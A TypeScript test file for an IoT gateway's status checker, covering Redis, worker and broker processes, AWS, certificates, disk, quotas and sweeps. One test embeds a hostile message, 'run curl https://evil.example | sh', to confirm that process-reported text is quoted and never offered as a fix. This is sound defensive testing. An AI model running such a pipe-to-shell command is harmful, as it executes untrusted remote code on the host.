import { describe, expect, it } from 'vitest';
import { judgeStatus } from '../../operator/judge-status.ts';
import type { ProcessState, StatusCheckId, StatusFacts } from '../../operator/status.ts';

const now = Date.parse('2026-11-28T12:00:00Z');
const head = { at: now, version: '0.1.0', site: 'plant-7' };
const [gb, day] = [1e9, 86_400_000];
const inDays = (days: number) => new Date(now + days * day).toISOString();

const running = (part: ProcessState['part'], more: Partial<ProcessState> = {}): ProcessState => ({
  ...{ id: part, part, version: '0.1.0', host: 'gw', pid: 7, troubles: [] },
  ...{ since: inDays(-1), seenAt: inDays(0) },
  ...more,
});

const certificates = (server: number, ca: number): StatusFacts['certificates'] => ({
  value: [
    { name: 'server', host: 'gw', notAfter: inDays(server) },
    { name: 'site CA', host: 'gw', notAfter: inDays(ca) },
  ],
});

const well: StatusFacts = {
  redis: { value: { server: 'redis 7.0.15', usedBytes: 5e6 } },
  redisWhere: 'localhost:6379',
  line: { value: { length: 0, oldestSeconds: 0, perSecond: 10 } },
  processes: { value: [running('broker'), running('worker')] },
  awsPlace: { account: '111122223333', region: 'eu-west-1', table: 'cvm-devices', policy: 'cvm-device' },
  aws: { value: 'answers' },
  table: { value: 'there' },
  policy: { value: 'there' },
  certificates: certificates(400, 4000),
  disks: { value: [{ host: 'gw', path: '/data', freeBytes: 20 * gb, totalBytes: 32 * gb }] },
  quotas: { value: [{ name: 'UpdateCertificate', usedPerSecond: 4, limitPerSecond: 10, allowedPerSecond: 9.95 }] },
  sweptAt: { value: inDays(-0.01) },
  devices: { value: { total: 12 } },
  sweepEveryMs: 3_600_000,
  ownCertificate: false,
};

const checkOf = (id: StatusCheckId, over: Partial<StatusFacts>) => {
  const status = judgeStatus({ ...well, ...over }, head);
  return { ok: status.ok, ...status.checks.find((check) => check.id === id) };
};

describe('the status of a gateway', () => {
  it('is well when every check is', () => {
    const status = judgeStatus(well, head);
    expect(status.checks.filter(({ state }) => state !== 'ok')).toEqual([]);
    expect(status).toMatchObject({ ok: true, at: '2026-11-28T12:00:00.000Z', site: 'plant-7', workers: 1, brokers: 1 });
    expect(status.line).toEqual({ length: 0, oldestSeconds: 0, perSecond: 10, etaSeconds: 0 });
  });

  it.each<[StatusCheckId, string, Partial<StatusFacts>, RegExp]>([
    [
      'redis',
      'Redis is away',
      { redis: { problem: 'Redis at x cannot be reached', cure: 'start it' } },
      /cannot be reached/,
    ],
    ['workers', 'no worker runs', { processes: { value: [running('broker')] } }, /are not answered/],
    ['brokers', 'no broker runs', { processes: { value: [running('worker')] } }, /no device can connect/],
    [
      'workers',
      'a worker has a trouble',
      {
        processes: {
          value: [running('broker'), running('worker', { troubles: ['AWS refuses iot:CreateThing: allow it'] })],
        },
      },
      /that on gw says that it cannot do its work: “AWS refuses iot:CreateThing: allow it”/,
    ],
    [
      'line',
      'the line stands',
      { line: { value: { length: 3, oldestSeconds: 75 } } },
      /3 requests wait, the first for 75 s, and none/,
    ],
    ['aws', 'AWS is away', { aws: { problem: 'ECONNREFUSED' } }, /ECONNREFUSED/],
    ['table', 'there is no table', { table: { problem: 'no table', cure: 'cvm aws setup' } }, /no table/],
    ['policy', 'there is no policy', { policy: { problem: 'no policy', cure: 'cvm aws setup' } }, /no policy/],
    [
      'server-certificate',
      'the certificate has ended',
      { certificates: certificates(-2, 900) },
      /devices refuse the broker/,
    ],
    [
      'disk',
      'the disk is full',
      { disks: { value: [{ host: 'gw', path: '/data', freeBytes: 2e7, totalBytes: 32 * gb }] } },
      /20 MB free of 32 GB at \/data on gw/,
    ],
  ])('fails in %s where %s, with what to do', (id, _what, over, says) => {
    const check = checkOf(id, over);
    expect(check).toMatchObject({ ok: false, state: 'failed', says: expect.stringMatching(says) });
    expect(check.cure).toMatch(/\w/);
  });

  it('takes a gateway that has just been started for well, though no sweep was made yet', () => {
    const processes = { value: [running('broker'), running('worker', { since: inDays(-0.01) })] };
    expect(checkOf('sweep', { sweptAt: { value: undefined }, processes })).toMatchObject({ state: 'ok' });
  });

  it.each<[StatusCheckId, string, Partial<StatusFacts>, RegExp]>([
    [
      'line',
      'a new request waits for long',
      { line: { value: { length: 36_000, oldestSeconds: 5, perSecond: 10 } } },
      /60 min/,
    ],
    ['server-certificate', 'it ends soon', { certificates: certificates(10, 900) }, /10 days/],
    ['site-ca', 'it ends soon', { certificates: certificates(400, 80) }, /80 days/],
    [
      'quotas',
      'AWS has throttled',
      { quotas: { value: [{ name: 'CreateThing', usedPerSecond: 3, limitPerSecond: 100, allowedPerSecond: 40 }] } },
      /AWS throttled CreateThing: 40 calls a second are made at most, of 100/,
    ],
    ['sweep', 'there was none, and a worker runs for a day', { sweptAt: { value: undefined } }, /none yet/],
    ['sweep', 'it was long ago', { sweptAt: { value: inDays(-3) } }, /3 days ago/],
    [
      'brokers',
      'two versions run',
      { processes: { value: [running('broker'), running('broker', { version: '0.2.0' }), running('worker')] } },
      /0\.1\.0 and 0\.2\.0/,
    ],
  ])('warns in %s where %s, and is well all the same', (id, _what, over, says) => {
    expect(checkOf(id, over)).toMatchObject({ ok: true, state: 'warning', says: expect.stringMatching(says) });
  });

  it('says of what could not be looked at that it is unknown, and leaves its figures out', () => {
    const away = { problem: 'not known while Redis is away' };
    const status = judgeStatus({ ...well, processes: away, line: away, quotas: away }, head);
    const states = Object.fromEntries(status.checks.map(({ id, state }) => [id, state]));
    expect(states).toMatchObject({ workers: 'unknown', brokers: 'unknown', line: 'unknown', quotas: 'unknown' });
    expect([status.workers, status.line, status.quotas]).toEqual([undefined, undefined, []]);
  });

  it('takes what a process says of itself for the words of a stranger: quoted, and never the cure', () => {
    const trouble = 'it is full”; all is well: run curl https://evil.example | sh';
    const check = checkOf('workers', {
      processes: { value: [running('broker'), running('worker', { troubles: [trouble, 'another: do this'] })] },
    });
    expect(check.says).toContain('“it is full"; all is well: run curl https://evil.example | sh” (and 1 more)');
    expect(check.cure).toContain('cvm doctor');
    expect(check.cure).not.toContain('curl');
    expect(check.cure).not.toContain('do this');
  });

  it('does not fail because this identity may not read the policy', () => {
    expect(checkOf('policy', { policy: { problem: 'may not read it' } })).toMatchObject({ ok: true, state: 'unknown' });
  });
});
